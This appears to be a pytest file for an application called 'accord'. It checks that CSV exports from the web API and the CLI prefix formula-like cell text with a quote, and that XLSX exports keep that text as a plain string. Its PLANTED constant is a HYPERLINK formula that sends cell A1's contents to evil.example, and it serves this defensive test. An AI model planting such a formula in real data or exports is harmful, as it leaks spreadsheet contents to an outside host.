"""CSV exports never hand a spreadsheet a formula: text that would run starts with '."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from typer.testing import CliRunner

from accord.cli.main import app as cli
from accord.core.spreadsheet_cells import inert_cell
from accord.store.accounts import Account
from accord.store.database import Database

from .conftest import with_token
from .records import WebRecord

PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"details")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Open a laboratory", "Open a laboratory"),
        (12, 12),
    ],
)
def test_inert_cell_prefixes_what_a_spreadsheet_would_run(text: object, cell: object) -> None:
    assert inert_cell(text) == cell


def _planted(app: FastAPI, db: Database, record: WebRecord) -> None:
    response = with_token(app, db, "admin").post(
        f"/api/v1/commitments/{record.pak}/review", json={"action": "correct", "text": PLANTED}
    )
    assert response.status_code == 200, response.text


def _text_cell(content: bytes, commitment: int) -> str:
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    return next(r["text"] for r in rows if int(r["id"]) == commitment)


def test_commitments_csv_neutralises_a_planted_formula_in_the_app_and_the_cli(
    app: FastAPI,
    db: Database,
    record: WebRecord,
    users: dict[str, Account],
    tmp_path: Path,
) -> None:
    _planted(app, db, record)
    web = with_token(app, db, "viewer").get("/exports/commitments.csv")
    assert _text_cell(web.content, record.pak) == "'" + PLANTED
    output = tmp_path / "commitments.csv"
    result = CliRunner().invoke(
        cli, ["export", "commitments", "--output", str(output), "--db", db.url]
    )
    assert result.exit_code == 0, result.output
    assert _text_cell(output.read_bytes(), record.pak) == "'" + PLANTED
    # XLSX keeps the text as it is, as a string cell: a workbook never runs a string.
    xlsx = with_token(app, db, "viewer").get("/exports/commitments.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content))["Commitments"]
    cells = [row for row in sheet.iter_rows() if row[0].value == record.pak]
    text = next(c for c in cells[0] if c.value == PLANTED)
    assert text.data_type == "s"


def test_table_csv_export_neutralises_a_planted_formula(
    app: FastAPI, db: Database, record: WebRecord, users: dict[str, Account], tmp_path: Path
) -> None:
    _planted(app, db, record)
    result = CliRunner().invoke(
        cli, ["export", str(tmp_path / "tables"), "--format", "csv", "--db", db.url]
    )
    assert result.exit_code == 0, result.output
    with (tmp_path / "tables" / "commitments.csv").open(encoding="utf-8", newline="") as handle:
        texts = {int(r["id"]): r["text"] for r in csv.DictReader(handle)}
    assert texts[record.pak] == "'" + PLANTED
